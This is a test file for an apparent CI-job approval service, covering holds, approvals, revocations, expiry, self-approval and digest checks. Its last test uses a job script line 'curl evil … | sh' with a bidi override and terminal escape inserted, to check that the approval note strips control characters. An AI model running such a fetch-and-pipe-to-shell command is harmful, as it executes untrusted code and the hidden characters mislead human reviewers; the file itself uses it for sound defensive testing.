import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { expire } from '../../agent/src/app/expire.ts';
import { revoke } from '../../agent/src/app/revoke.ts';
import type { HoldpointError } from '../../agent/src/domain/errors.ts';
import { DEFAULT_POLICY } from '../../agent/src/domain/policy.ts';
import { DAY, hubWorld, type JobSpec, MINUTE, type World } from '../support/hub-world.ts';

/** One step of a story: who does what, and what is to be seen afterwards. */
type Step = { readonly who: string; readonly does: (w: World) => Promise<unknown>; readonly expect: unknown };
type Story = { readonly title: string; readonly steps: readonly Step[] };

const admits = (job: JobSpec) => async (w: World) => {
  const { outcome, hold, approval } = await w.admit(job);
  return [outcome, hold, approval];
};
const approves = (who: string, hold: number, lifetime?: string) => async (w: World) =>
  (await w.approve(who, hold, lifetime === undefined ? {} : { lifetime })).state;
const rejects =
  (who: string, hold: number, remember = false) =>
  async (w: World) =>
    (await w.reject(who, hold, { remember })).state;
const revokes = (who: string, approval: number) => async (w: World) =>
  (await revoke(w.context, w.caller(who), approval, 'was a mistake')).revoked?.by;
const says =
  (
    event: 'handed_out' | 'detached' | 'undelivered' | 'unconfirmed' | 'canceled',
    hold: number,
    jobId: number,
    agent = 'embedded',
  ) =>
  (w: World) =>
    w
      .report(agent, { hold, jobId, event })
      .then(([status]) => `${status?.state}${status?.current ? '' : ' not current'}`);
const ends = (status: 'success' | 'failed' | 'canceled', hold: number, jobId: number) => (w: World) =>
  w.report('embedded', { hold, jobId, event: 'ended', detail: { status } }).then(([s]) => s?.state);
const stateOf = (hold: number) => (w: World) => w.state(hold);
const pushes = (w: World) => w.pushes();
const waits = (ms: number) => async (w: World) => {
  w.clock.advance(ms);
  return expire(w.context);
};
const one = { id: 1, pipeline: 100 };

const stories: readonly Story[] = [
  {
    title: 'a job whose configuration nobody approved waits, is approved, runs, and the next one passes at once',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'hub', does: pushes, expect: ['release 1/1'] },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'running' },
      { who: 'agent', does: ends('success', 1, 1), expect: 'success' },
      { who: 'agent', does: admits({ id: 2, pipeline: 101, by: 'alice' }), expect: ['pass', 2, 1] },
    ],
  },
  {
    title: 'T10: another job, project, branch, protection or environment with the same digest waits again',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'agent', does: admits({ id: 2, pipeline: 2, name: 'other' }), expect: ['hold', 2, null] },
      { who: 'agent', does: admits({ id: 3, pipeline: 3, project: 4243 }), expect: ['hold', 3, null] },
      { who: 'agent', does: admits({ id: 4, pipeline: 4, ref: 'refs/heads/feature' }), expect: ['hold', 4, null] },
      { who: 'agent', does: admits({ id: 5, pipeline: 5, protected: false }), expect: ['hold', 5, null] },
      { who: 'agent', does: admits({ id: 6, pipeline: 6, environment: 'production' }), expect: ['hold', 6, null] },
    ],
  },
  {
    title: 'T11: a tag called like the branch is another ref; protected tags are one class, unprotected ones are not',
    steps: [
      { who: 'agent', does: admits({ id: 1, pipeline: 1, ref: 'refs/tags/v1' }), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'agent', does: admits({ id: 2, pipeline: 2, ref: 'refs/tags/v2' }), expect: ['pass', 2, 1] },
      { who: 'agent', does: admits({ id: 3, pipeline: 3, ref: 'refs/heads/v1' }), expect: ['hold', 3, null] },
      {
        who: 'agent',
        does: admits({ id: 4, pipeline: 4, ref: 'refs/tags/v3', protected: false }),
        expect: ['hold', 4, null],
      },
    ],
  },
  {
    title: 'one answer releases every hold of the review, in ascending pipeline',
    steps: [
      { who: 'agent', does: admits({ id: 7, pipeline: 107 }), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 5, pipeline: 105 }), expect: ['hold', 2, null] },
      { who: 'agent', does: admits({ id: 6, pipeline: 106, by: 'maria' }), expect: ['hold', 3, null] },
      { who: 'jonas', does: approves('jonas', 3), expect: 'pending' },
      { who: 'hub', does: pushes, expect: ['release 2/5', 'release 3/6', 'release 1/7'] },
    ],
  },
  {
    title: 'an approval of one tag answers the open review of another protected tag too',
    steps: [
      { who: 'agent', does: admits({ id: 1, pipeline: 1, ref: 'refs/tags/v1' }), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 2, ref: 'refs/tags/v2' }), expect: ['hold', 2, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'hub', does: stateOf(2), expect: 'pending' },
    ],
  },
  {
    title: 'of several that wait for one environment only the newest pipeline is released',
    steps: [
      { who: 'agent', does: admits({ id: 1, pipeline: 1, environment: 'production' }), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 2, environment: 'production' }), expect: ['hold', 2, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'canceled' },
      { who: 'hub', does: stateOf(2), expect: 'pending' },
      { who: 'hub', does: pushes, expect: ['cancel 1/1', 'release 2/2'] },
    ],
  },
  {
    title: 'T44: a retried job joins its hold: same review, no second question, votes stay',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: says('detached', 1, 1), expect: 'waiting_for_approval' },
      { who: 'agent', does: admits({ id: 2, pipeline: 100, by: 'maria' }), expect: ['hold', 1, null] },
      { who: 'hub', does: async (w) => (await w.store.hold(1))?.trigger.username, expect: 'zoe' },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'hub', does: pushes, expect: ['release 1/2'] },
    ],
  },
  {
    title: 'a job that joins an approved hold passes; asking again about a known job gets its present verdict',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: says('detached', 1, 1), expect: 'waiting_for_approval' },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'hub', does: pushes, expect: [] },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['pass', 1, 1] },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['pass', 1, 1] },
      { who: 'agent', does: says('handed_out', 1, 2), expect: 'running' },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['refuse', null, null] },
      { who: 'agent', does: admits(one), expect: ['refuse', null, null] },
    ],
  },
  {
    title: 'T41: the job whose place another has taken is not current, and its hand-out counts for nothing',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['hold', 1, null] },
      { who: 'hub', does: pushes, expect: ['cancel 1/1'] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'pending not current' },
      { who: 'agent', does: says('handed_out', 1, 2), expect: 'running' },
    ],
  },
  {
    title: 'T51: a job that comes under another protection of its ref does not slip into the approved hold',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'agent', does: admits({ id: 2, pipeline: 100, protected: false }), expect: ['hold', 2, null] },
      { who: 'hub', does: stateOf(1), expect: 'canceled' },
    ],
  },
  {
    title: 'T51: where the pipeline is not known, no other job takes a hold over',
    steps: [
      { who: 'agent', does: admits({ id: 1, pipeline: null }), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: null }), expect: ['hold', 2, null] },
    ],
  },
  {
    title: 'lifetime run covers this hold only: its retries, not the next pipeline, not the other hold of the review',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 101 }), expect: ['hold', 2, null] },
      { who: 'maria', does: approves('maria', 1, 'run'), expect: 'pending' },
      { who: 'hub', does: stateOf(2), expect: 'waiting_for_approval' },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'running' },
      { who: 'agent', does: says('undelivered', 1, 1), expect: 'pending' },
      { who: 'agent', does: says('detached', 1, 1), expect: 'pending' },
      { who: 'agent', does: admits({ id: 3, pipeline: 100 }), expect: ['pass', 1, 1] },
      { who: 'agent', does: says('handed_out', 1, 3), expect: 'running' },
      { who: 'agent', does: ends('failed', 1, 3), expect: 'failed' },
      { who: 'agent', does: admits({ id: 4, pipeline: 100 }), expect: ['hold', 3, null] },
    ],
  },
  {
    title: 'T12: until a date, and no longer',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1, 'until:2026-11-24'), expect: 'pending' },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'running' },
      { who: 'agent', does: ends('success', 1, 1), expect: 'success' },
      { who: 'time', does: waits(2 * DAY), expect: 0 },
      { who: 'agent', does: admits({ id: 2, pipeline: 101 }), expect: ['pass', 2, 1] },
      { who: 'agent', does: says('handed_out', 2, 2), expect: 'running' },
      { who: 'time', does: waits(DAY), expect: 0 },
      { who: 'agent', does: admits({ id: 3, pipeline: 102 }), expect: ['hold', 3, null] },
    ],
  },
  {
    title: 'T12: a released hold whose approval is over before the hand-out waits again',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1, 'until:2026-11-23'), expect: 'pending' },
      { who: 'time', does: waits(3 * DAY), expect: 1 },
      { who: 'hub', does: stateOf(1), expect: 'waiting_for_approval' },
      { who: 'hub', does: pushes, expect: ['revoke 1/1'] },
      { who: 'jonas', does: approves('jonas', 1), expect: 'pending' },
    ],
  },
  {
    title: 'T12: a standing approval lapses after 90 days without use, each use renews it',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'running' },
      { who: 'time', does: waits(89 * DAY), expect: 0 },
      { who: 'agent', does: admits({ id: 2, pipeline: 101 }), expect: ['pass', 2, 1] },
      { who: 'agent', does: says('handed_out', 2, 2), expect: 'running' },
      { who: 'time', does: waits(89 * DAY), expect: 0 },
      { who: 'agent', does: admits({ id: 3, pipeline: 102 }), expect: ['pass', 3, 1] },
      { who: 'agent', does: says('handed_out', 3, 3), expect: 'running' },
      { who: 'time', does: waits(90 * DAY), expect: 0 },
      { who: 'agent', does: admits({ id: 4, pipeline: 103 }), expect: ['hold', 4, null] },
    ],
  },
  {
    title: 'T29: revoking stops the next job, takes back what was released, and leaves what runs',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 101 }), expect: ['hold', 2, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'running' },
      { who: 'jonas', does: revokes('jonas', 1), expect: 'jonas' },
      { who: 'hub', does: stateOf(1), expect: 'running' },
      {
        who: 'hub',
        does: async (w) => (await w.store.hold(1))?.reason,
        expect: 'approval 1 was revoked by jonas: was a mistake; it ran already',
      },
      { who: 'hub', does: stateOf(2), expect: 'waiting_for_approval' },
      { who: 'hub', does: pushes, expect: ['release 1/1', 'revoke 2/2'] },
      { who: 'agent', does: admits({ id: 3, pipeline: 102 }), expect: ['hold', 3, null] },
      { who: 'maria', does: approves('maria', 2), expect: 'pending' },
      { who: 'hub', does: stateOf(3), expect: 'pending' },
    ],
  },
  {
    title: 'a hand-out that crosses the revocation is recorded as what it is: running',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'jonas', does: revokes('jonas', 1), expect: 'jonas' },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'running' },
      { who: 'agent', does: says('undelivered', 1, 1), expect: 'waiting_for_approval' },
      { who: 'jonas', does: approves('jonas', 1), expect: 'pending' },
    ],
  },
  {
    title:
      'T27: an agent that says it handed out what was never released changes nothing, and that stands in the audit',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'waiting_for_approval' },
      { who: 'other agent', does: says('canceled', 1, 1, 'other'), expect: 'unknown not current' },
      { who: 'hub', does: stateOf(1), expect: 'waiting_for_approval' },
      {
        who: 'hub',
        does: async (w) => (await w.audit()).filter((event) => event === 'report_refused').length,
        expect: 2,
      },
    ],
  },
  {
    title: 'a reject ends every waiting hold of the review; what comes later asks anew',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 101 }), expect: ['hold', 2, null] },
      { who: 'maria', does: rejects('maria', 1), expect: 'rejected' },
      { who: 'hub', does: stateOf(2), expect: 'rejected' },
      { who: 'hub', does: pushes, expect: ['reject 1/1', 'reject 2/2'] },
      { who: 'agent', does: admits({ id: 3, pipeline: 100 }), expect: ['hold', 3, null] },
    ],
  },
  {
    title: 'T15: a remembered reject refuses later jobs at once for 24 hours, on every ref, and cannot be outvoted',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 101, ref: 'refs/heads/other' }), expect: ['hold', 2, null] },
      { who: 'maria', does: rejects('maria', 1, true), expect: 'rejected' },
      { who: 'agent', does: admits({ id: 3, pipeline: 102 }), expect: ['refuse', null, null] },
      { who: 'jonas', does: (w) => w.approve('jonas', 2).catch((e: HoldpointError) => e.code), expect: 'wrong_state' },
      { who: 'time', does: waits(DAY), expect: 0 },
      { who: 'agent', does: admits({ id: 4, pipeline: 103 }), expect: ['hold', 3, null] },
    ],
  },
  {
    title: 'T15: a denial comes before an approval that was there already',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: admits({ id: 2, pipeline: 2, ref: 'refs/heads/other' }), expect: ['hold', 2, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'jonas', does: rejects('jonas', 2, true), expect: 'rejected' },
      { who: 'agent', does: admits({ id: 3, pipeline: 3 }), expect: ['refuse', null, null] },
    ],
  },
  {
    title: 'T35: time approves nothing: after 30 days the hold expires and the review closes',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'time', does: waits(30 * DAY - 1), expect: 0 },
      { who: 'time', does: waits(1), expect: 1 },
      { who: 'hub', does: stateOf(1), expect: 'expired' },
      { who: 'hub', does: pushes, expect: ['expire 1/1'] },
      { who: 'hub', does: async (w) => (await w.store.review(1))?.state, expect: 'expired' },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['hold', 2, null] },
    ],
  },
  {
    title: 'a canceled job ends its hold and its review; its vote is not carried over',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: says('canceled', 1, 1), expect: 'canceled' },
      { who: 'hub', does: async (w) => (await w.store.review(1))?.state, expect: 'canceled' },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['hold', 2, null] },
      { who: 'hub', does: async (w) => (await w.store.hold(2))?.review, expect: 2 },
    ],
  },
  {
    title:
      'GitLab ending a parked job by time-out leaves the hold waiting without it; an unconfirmed hand-over fails it',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'agent', does: ends('failed', 1, 1), expect: 'waiting_for_approval' },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1), expect: 'pending' },
      { who: 'agent', does: says('handed_out', 1, 2), expect: 'running' },
      { who: 'agent', does: says('unconfirmed', 1, 2), expect: 'failed' },
    ],
  },
  {
    title: 'a second job of the same name while the first is said to run ends that one and is looked at anew',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      { who: 'maria', does: approves('maria', 1, 'run'), expect: 'pending' },
      { who: 'agent', does: says('handed_out', 1, 1), expect: 'running' },
      { who: 'agent', does: admits({ id: 2, pipeline: 100 }), expect: ['hold', 2, null] },
      { who: 'hub', does: stateOf(1), expect: 'failed' },
    ],
  },
  {
    title: 'a parked job of an agent that fell silent is detached, the hold stays',
    steps: [
      { who: 'agent', does: admits(one), expect: ['hold', 1, null] },
      {
        who: 'agent',
        does: (w) =>
          w
            .report('embedded', {
              hold: 1,
              jobId: 1,
              event: 'parked',
              detail: { parkedUntil: '2026-11-22T09:00:00.000Z' },
            })
            .then(([s]) => s?.state),
        expect: 'waiting_for_approval',
      },
      { who: 'time', does: waits(65 * MINUTE), expect: 0 },
      { who: 'time', does: waits(10 * MINUTE), expect: 1 },
      { who: 'hub', does: async (w) => (await w.store.hold(1))?.attempts[0]?.ended, expect: 'its agent fell silent' },
      { who: 'hub', does: stateOf(1), expect: 'waiting_for_approval' },
    ],
  },
];

describe('approvals, as stories', () => {
  let world: World;
  beforeEach(async () => {
    world = await hubWorld();
  });
  afterEach(() => world.store.close());

  it.each(stories)('$title', async ({ steps }) => {
    for (const [i, step] of steps.entries()) {
      expect({ step: i + 1, who: step.who, saw: await step.does(world) }).toEqual({
        step: i + 1,
        who: step.who,
        saw: step.expect,
      });
    }
  });

  it('T36: refuses an approve for another digest than the hold has, and says so', async () => {
    await world.admit(one);
    const digest = `sha256:${'1'.repeat(64)}`;
    await expect(world.approve('maria', 1, { digest })).rejects.toMatchObject({ code: 'digest_mismatch' });
    expect(await world.state(1)).toBe('waiting_for_approval');
  });

  it('T3: refuses a job whose configuration has another digest than the agent says', async () => {
    const { admit } = await import('../../agent/src/app/admit.ts');
    const { requestFor } = await import('../support/hub-world.ts');
    const request = { ...requestFor(one), digest: `sha256:${'2'.repeat(64)}` };
    await expect(admit(world.context, 'embedded', request)).rejects.toMatchObject({ code: 'digest_mismatch' });
    expect(await world.store.hold(1)).toBeNull();
  });

  it('T27: gives another agent no verdict on a job that is not its own', async () => {
    await world.admit(one);
    await expect(world.admit({ ...one, agent: 'other' })).rejects.toMatchObject({ code: 'forbidden' });
  });

  it('T18: keeps the verified trigger of the opener from approving, and later triggers not', async () => {
    await world.admit({ id: 1, by: 'maria' });
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
    await world.admit({ id: 2, pipeline: 101, by: 'jonas' });
    expect((await world.approve('jonas', 2)).state).toBe('pending');
  });

  it("T18: lets one's own reject count although one's own approve does not", async () => {
    await world.admit({ id: 1, by: 'maria' });
    expect((await world.reject('maria', 1)).state).toBe('rejected');
  });

  it('T17: a trigger that only a variable names is no approver either, and gives nobody sight', async () => {
    await world.admit({ id: 1, by: 'maria', verified: 'unverified' });
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
    await world.admit({ id: 2, pipeline: 2, by: 'gus', verified: 'unverified' });
    await expect(world.approve('gus', 2)).rejects.toMatchObject({ code: 'not_found' });
    await world.admit({ id: 3, pipeline: 3, by: 'gus' });
    await expect(world.approve('gus', 3)).rejects.toMatchObject({ code: 'not_eligible' });
  });

  it('lets the trigger approve where the policy allows it', async () => {
    world.policy = { ...DEFAULT_POLICY, version: 'allow', selfApproval: 'allow_trigger' };
    await world.admit({ id: 1, by: 'maria' });
    expect((await world.approve('maria', 1)).state).toBe('pending');
  });

  it('T19: counts membership as it is now, at each vote', async () => {
    world.policy = { ...DEFAULT_POLICY, version: 'two', rules: [{ name: 'maintainers', accessLevel: 40, count: 2 }] };
    await world.admit(one);
    expect((await world.approve('maria', 1)).state).toBe('waiting_for_approval');
    const [api, ...others] = world.people.projects;
    world.people = {
      ...world.people,
      projects: [{ ...api!, members: api!.members.filter((m) => m.user !== 21) }, ...others],
    };
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_found' });
    expect((await world.approve('jonas', 1)).state).toBe('waiting_for_approval');
    expect((await world.approve('olga', 1)).state).toBe('pending');
    const approval = await world.store.approval(1);
    expect(approval?.votes.map((vote) => vote.person.username)).toEqual(['jonas', 'olga']);
  });

  it('T21: a rule that became stricter while a review is open counts as well, one that became laxer does not help', async () => {
    await world.admit(one);
    world.policy = { ...DEFAULT_POLICY, version: 'stricter', rules: [{ name: 'owners', accessLevel: 50, count: 1 }] };
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_eligible' });
    expect((await world.approve('olga', 1)).state).toBe('pending');
    await world.admit({ id: 2, pipeline: 2, ref: 'refs/heads/x' });
    world.policy = { ...DEFAULT_POLICY, version: 'laxer', rules: [{ name: 'developers', accessLevel: 30, count: 1 }] };
    await expect(world.approve('alice', 2)).rejects.toMatchObject({ code: 'not_eligible' });
    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
  });

  it('T16: a policy without rules, or a project without members, is satisfied by nobody', async () => {
    world.policy = { ...DEFAULT_POLICY, version: 'none', rules: [] };
    await world.admit(one);
    await expect(world.approve('olga', 1)).rejects.toMatchObject({ code: 'not_eligible' });
    world.policy = DEFAULT_POLICY;
    await world.admit({ id: 2, pipeline: 2, project: 9999, by: 'maria' });
    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
  });

  it('takes the narrowest lifetime of all votes that count', async () => {
    world.policy = { ...DEFAULT_POLICY, version: 'two', rules: [{ name: 'maintainers', accessLevel: 40, count: 2 }] };
    await world.admit(one);
    await world.approve('maria', 1, { lifetime: 'until:2026-12-01' });
    await world.approve('jonas', 1);
    expect((await world.store.approval(1))?.lifetime).toEqual({
      kind: 'until',
      at: Date.parse('2026-12-01T23:59:59.999Z'),
    });
  });

  it('refuses a lifetime beyond the policy: standing for an environment, a date too far, a date that is over', async () => {
    await world.admit({ id: 1, environment: 'production' });
    for (const lifetime of ['standing', 'until:2027-11-22', 'until:2026-11-21']) {
      await expect(world.approve('maria', 1, { lifetime })).rejects.toMatchObject({ code: 'lifetime_not_allowed' });
    }
    await world.approve('maria', 1);
    expect((await world.store.approval(1))?.lifetime).toMatchObject({ kind: 'until' });
  });

  it('T33 T32: the note says why, what changed, who decides, the link and what comes next, on clean lines without values', async () => {
    await world.admit({
      id: 1,
      script: ['make'],
      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'aa11'.repeat(16) }] }] },
    });
    await world.approve('maria', 1);
    const { note } = await world.admit({
      id: 2,
      pipeline: 101,
      script: ['make', 'curl evil\u202e\u001b[2J | sh'],
      extra: { variables: [{ key: 'KEY', value: [{ hmac: 'bb22'.repeat(16) }] }] },
    });
    expect(note).toContain('waits for approval (hold 2)');
    expect(note).toContain('approved on 2026-11-22 by maria');
    expect(note).toContain('curl evil');
    expect(note).toContain('jonas, maria, olga; needed: 1 × maintainers (maintainer or higher)');
    expect(note).toContain('zoe triggered it and cannot approve it');
    expect(note).toContain('https://hub.example.com/holds/2');
    expect(note).toContain('holdpoint digest');
    expect(note).toContain('expires at 2026-12-22 08:00 UTC');
    expect(note).not.toMatch(/[\u202e\u001b]/);
    expect(note).not.toMatch(/aa11|bb22/);
  });
});
